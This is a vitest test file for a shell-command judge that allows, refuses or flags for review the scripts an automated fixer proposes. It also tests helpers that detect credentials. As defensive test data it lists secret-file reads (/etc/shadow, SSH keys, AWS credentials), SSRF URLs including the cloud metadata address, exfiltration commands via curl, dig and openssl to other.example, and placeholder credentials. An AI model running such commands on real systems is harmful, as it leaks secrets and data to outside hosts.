import { describe, expect, test } from 'vitest';
import { judge } from '../judge.ts';
import { holdsCredential, isSecretName, isSecretPlace } from './secrets.ts';

const context = {
  kind: 'fix',
  parameters: { LOGS: '/srv/shop/trace', API: 'https://api.acme.example/v1' },
  actions: [],
} as const;
const codes = (script: string) => judge(script, context).findings.map(({ code }) => code);
const verdict = (script: string) => judge(script, context).verdict;

describe('a file that is read', () => {
  test.each([
    '/var/log/syslog',
    './notes.txt',
    '/proc/meminfo',
    '/etc/nginx/nginx.conf',
    '/opt/app/logs/app.log',
    '/srv/shop/trace',
    '/var/log/x/../syslog',
  ])('%s holds no secret', (path) => expect(verdict(`cat ${path}`)).toBe('allow'));
  test.each([
    '/etc/shadow',
    '/etc/./shadow',
    '/var/log/../../etc/shadow',
    '/e*/shadow',
    '~/.ssh/id_rsa',
    '$HOME/.aws/credentials',
    '/proc/self/environ',
    '/run/secrets/db',
    './.env',
    '/dev/sda',
    '/etc/ssl/private/x.pem',
  ])('%s does, or may', (path) => expect(verdict(`cat ${path}`)).toBe('refuse'));
  test.each(['/etc/app/config.yml', '/opt/app/settings.py', '../outside', '"$X"'])(
    '%s needs a person',
    (path) => expect(verdict(`cat ${path}`)).toBe('review'),
  );
  test('the directory it is read in counts', () => {
    expect(verdict('cd /var/log || exit 1; tail -5 syslog')).toBe('allow');
    expect(verdict('cd /etc || exit 1; cat shadow')).toBe('refuse');
  });
  test('a directory that may not be there counts for nothing', () => {
    expect(verdict('cd /var/log; tail -5 syslog')).toBe('review');
    expect(verdict('cd /var/log || true; tail -5 syslog')).toBe('review');
  });
});

describe('a file that is written', () => {
  test.each(['/tmp/x.txt', './out.json', '/dev/null'])('%s may be', (path) =>
    expect(verdict(`df -h > ${path}`)).toBe('allow'),
  );
  test.each([
    '/etc/hosts',
    '/var/log/syslog',
    '~/.bashrc',
    './.git/hooks/x',
    '/tmp/x.sh',
    './main.tf',
    '/dev/tcp/x/1',
    '/tmp/../etc/x',
    '"/tmp/$X"',
    '/usr/local/bin/x',
  ])('%s may not be', (path) => expect(verdict(`df -h > ${path}`)).toBe('refuse'));
  test('one of mktemp may be removed again, nothing else of that kind', () => {
    expect(verdict('t=$(mktemp); df > "$t"; rm -f "$t"')).toBe('allow');
    expect(codes('rm -f /tmp/*')).toContain('destructive');
    expect(codes('rm -rf /tmp/x')).toContain('destructive');
  });
});

describe('an address', () => {
  test.each([
    'http://localhost:8080/health',
    'https://api.acme.example/v1',
    'https://api.acme.example/v1/items?x=1',
    'https://other.example/healthz',
    'http://prometheus:9090/api/v1/query?query=up',
  ])('%s may be read', (url) => expect(verdict(`curl -fsS '${url}'`)).toBe('allow'));
  test.each([
    'https://other.example/x',
    'http://localhost/admin/restart',
    'https://api.acme.example.evil.example/v1',
  ])('%s needs a person', (url) => expect(verdict(`curl '${url}'`)).toBe('review'));
  test.each([
    'http://169.254.169.254/',
    'http://2852039166/',
    'http://user:pw@localhost/',
    'file:///etc/passwd',
    'http://{a,b}/health',
    'http://localhost\\@evil.example/',
    'gopher://localhost/',
  ])('%s is refused', (url) => expect(verdict(`curl '${url}'`)).toBe('refuse'));
  test('data travels to the inventory only', () => {
    expect(verdict('curl "https://api.acme.example/v1/$(hostname)"')).toBe('allow');
    expect(codes('curl "https://other.example/$(hostname)"')).toContain('exfiltration');
    expect(codes('dig "$(hostname).other.example"')).toContain('exfiltration');
    expect(codes('cat /var/log/syslog | openssl s_client -connect other.example:443')).toContain(
      'exfiltration',
    );
  });
});

describe('a secret', () => {
  test.each([
    'AKIAIOSFODNN7EXAMPLE',
    'Authorization: Bearer abcdef123456',
    'postgres://app:hunter2@db/x',
    'export DB_PASSWORD=hunter2hunter2',
    '-----BEGIN RSA PRIVATE KEY-----',
  ])('is seen in %s', (text) => expect(holdsCredential(text)).toBe(true));
  test.each([
    'TOKEN_URL=https://x/y',
    'echo "password expired"',
    'curl http://localhost:8080/health',
    'PASSWORD=$1',
  ])('is not seen in %s', (text) => expect(holdsCredential(text)).toBe(false));
  test('has names', () => {
    expect(['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'DB_PASS'].map(isSecretName)).toEqual([
      true,
      true,
      true,
    ]);
    expect(['TOKEN_URL', 'KEYSPACE', 'PASSES'].map(isSecretName)).toEqual([false, false, false]);
  });
  test('has places', () => {
    expect(['/root/x', 'conf/credentials.json', '/home/a/.kube/config'].map(isSecretPlace)).toEqual([
      true,
      true,
      true,
    ]);
    expect(['/var/log/auth.log', '/etc/hosts', '/tmp/token-count.txt'].map(isSecretPlace)).toEqual([
      false,
      false,
      false,
    ]);
  });
});
